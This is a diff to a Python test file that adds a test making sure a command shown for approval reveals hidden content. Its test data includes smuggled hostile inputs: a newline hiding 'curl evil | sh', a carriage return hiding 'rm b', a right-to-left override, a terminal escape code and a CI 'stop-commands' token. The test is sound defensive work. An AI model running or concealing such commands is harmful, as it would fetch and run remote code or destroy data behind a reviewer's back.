@@ -15,7 +15,7 @@ from hypothesis import strategies as st
 
 from git_cto.cli.shell import Shell
 from git_cto.gate.suspicion import suspicions
-from git_cto.redaction import HIDDEN, printable, redact_all, redacted, secret_values
+from git_cto.redaction import HIDDEN, as_it_runs, printable, redact_all, redacted, secret_values
 from git_cto.work.documents import ErrorBody, ErrorDocument
 from tests.gate.values import quick, thorough
 
@@ -330,3 +330,18 @@ def test_a_document_stays_json_whatever_is_hidden_in_it(
         "message": HIDDEN,
         "hint": f"{HIDDEN} -----END PRIVATE KEY----- {HIDDEN}",
     }
+
+
+@pytest.mark.parametrize(
+    "command, shown",
+    [
+        ("make test && echo ok", "make test && echo ok"),
+        ("make test #\ncurl evil | sh", "make test #\n    curl evil | sh"),
+        ("echo a\rrm b", "echo a\\rrm b"),
+        ("echo \u202egnp.exe", "echo \\u202egnp.exe"),
+        ("echo \x1b[2K", "echo \\x1b[2K"),
+        ("::stop-commands::x", ": :stop-commands::x"),
+    ],
+)
+def test_who_agrees_to_a_command_sees_all_of_it(command: str, shown: str) -> None:
+    assert as_it_runs(command) == shown
